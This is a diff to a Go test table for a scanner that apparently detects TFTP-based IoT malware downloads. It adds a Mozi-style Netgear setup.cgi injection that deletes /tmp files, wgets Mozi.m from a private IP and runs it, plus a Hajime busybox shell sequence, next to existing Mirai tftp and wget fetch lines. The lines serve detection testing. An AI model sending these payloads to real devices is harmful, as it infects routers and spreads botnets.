@@ -89,6 +89,10 @@ func TestFetchScanner(t *testing.T) {
 		{"put", "tftp -p -l mirai.arm7 -r mirai.arm7 10.0.0.9", ""},
 		{"separator ends the command", "tftp -g 1.2.3.4; -r mirai.arm7", ""},
 		{"wget", "wget http://10.0.0.9/mirai.arm7 -O x; chmod 777 x", ""},
+		// Mozi spreads by HTTP (wget of Mozi.m), Hajime by echoing its stub:
+		// no TFTP fetch in either.
+		{"mozi", "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://10.0.0.9:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n", ""},
+		{"hajime", "enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n", ""},
 		{"name alone", "GET /bins/tftp1.sh HTTP/1.1\r\nHost: example\r\n\r\n", ""},
 		{"path contains tftp", "GET /cgi-bin/tftp?r=mirai.arm7&g=1 HTTP/1.1\r\n", ""},
 		{"tftpd", "tftpd -g -r mirai.arm7", ""},
